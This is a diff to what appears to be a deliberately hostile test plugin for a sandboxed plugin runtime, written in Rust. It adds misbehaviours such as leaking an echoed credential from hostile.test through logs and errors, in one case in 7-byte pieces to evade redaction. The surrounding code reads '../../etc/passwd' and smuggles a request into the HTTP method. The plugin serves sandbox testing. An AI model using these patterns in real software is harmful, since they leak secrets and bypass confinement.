@@ -30,7 +30,7 @@ pub fn act(behaviour: Behaviour, config: &Config) -> Result<(), PluginError> {
     Ok(())
 }
 
-#[expect(clippy::panic, clippy::exit, clippy::print_stderr, reason = "the behaviours are about these")]
+#[expect(clippy::panic, clippy::exit, clippy::print_stderr, clippy::print_stdout, reason = "the behaviours are about these")]
 fn use_up(behaviour: Behaviour) {
     match behaviour {
         Behaviour::Panic => panic!("ada@example.org at index 7"),
@@ -51,10 +51,13 @@ fn use_up(behaviour: Behaviour) {
             black_box(recurse(1));
         }
         Behaviour::Exit => std::process::exit(3),
+        Behaviour::ExitZero => std::process::exit(0),
         Behaviour::SleepLong => runtime::sleep_ms(3_600_000),
+        Behaviour::SleepOutside => std::thread::sleep(std::time::Duration::from_secs(3_600)),
         Behaviour::FloodLogs => flood(|| runtime::info("line")),
         Behaviour::HugeLog => runtime::log(Level::Info, &huge_text(), &[("field", &huge_text())]),
         Behaviour::FloodStderr => flood(|| eprintln!("ada@example.org")),
+        Behaviour::FloodStdout => flood(|| println!("ada@example.org")),
         Behaviour::FloodMetrics => (0..FLOOD).for_each(|number| runtime::metric(&format!("metric_{number}"), f64::NAN, &[])),
         Behaviour::FloodRandom => {
             black_box(runtime::random_bytes(u32::MAX));
@@ -93,9 +96,28 @@ fn fail(behaviour: Behaviour) -> Result<(), Error> {
         Behaviour::FloodKv => (0..FLOOD).try_for_each(|number| kv::put(&number.to_string(), &[0; 1_024])),
         Behaviour::HugeKvValue => kv::put("huge", huge_text().as_bytes()),
         Behaviour::FileNotGranted => Reader::open("../../etc/passwd").map(drop),
+        Behaviour::HoardHandles => (0..FLOOD).try_for_each(|_| Reader::open("held.jsonl").map(std::mem::forget)),
         Behaviour::OutputNotGranted => Writer::open("/tmp/hostile").and_then(Writer::commit),
         _ => Ok(()),
     }
+}
+
+/// Tells everything that came back of a request whose remote echoes the credential.
+fn fish(request: http::Request) -> Result<(), Error> {
+    let response = request.send()?;
+    let seen = format!("{:?} {}", response.header("x-echo"), String::from_utf8_lossy(response.body()));
+    runtime::info(&seen);
+    Err(Error::internal(seen))
+}
+
+/// The same, read in pieces that are shorter than the credential.
+fn fish_in_pieces(request: http::Request) -> Result<(), Error> {
+    let (_, body) = request.open()?;
+    let mut seen = Vec::new();
+    while let Some(piece) = body.read(7)? {
+        seen.extend_from_slice(&piece);
+    }
+    Err(Error::internal(String::from_utf8_lossy(&seen).into_owned()))
 }
 
 fn reach_out(behaviour: Behaviour, config: &Config) -> Result<(), Error> {
@@ -103,6 +125,7 @@ fn reach_out(behaviour: Behaviour, config: &Config) -> Result<(), Error> {
     let granted = || http::get(url("https://hostile.test/"));
     let sent = match behaviour {
         Behaviour::HttpGet => granted().auth("token").send(),
+        Behaviour::HttpGetJson => return granted().auth("token").send()?.json::<serde_json::Value>().map(drop),
         Behaviour::HttpNotGranted => http::get(url("https://not-granted.test/")).auth("token").send(),
         Behaviour::HttpHeaderFlood => {
             let flooded = (0..100_000).fold(granted(), |request, number| request.header(&format!("x-{number}"), "1"));
@@ -117,6 +140,8 @@ fn reach_out(behaviour: Behaviour, config: &Config) -> Result<(), Error> {
         Behaviour::HttpBrokenMethod => {
             http::Request::new("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\nGET", url("https://hostile.test/")).send()
         }
+        Behaviour::FishSecret => return fish(granted().auth("token")),
+        Behaviour::FishSecretInPieces => return fish_in_pieces(granted().auth("token")),
         Behaviour::HttpUnknownSlot => granted().auth("other").send(),
         Behaviour::HttpFlood => {
             let requests = (0..10_000).map(|_| granted()).collect();
